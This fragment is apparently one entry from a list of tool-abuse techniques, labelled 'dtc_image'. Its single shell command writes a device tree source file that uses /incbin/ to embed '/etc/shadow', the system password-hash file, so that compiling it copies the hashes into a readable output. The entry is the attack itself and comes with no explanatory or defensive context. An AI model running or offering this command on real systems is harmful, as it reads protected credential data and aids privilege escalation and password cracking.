dtc_image
printf '%s\n' '/dts-v1/;' '/ { key = /incbin/("/etc/shadow"); };' >base.dts
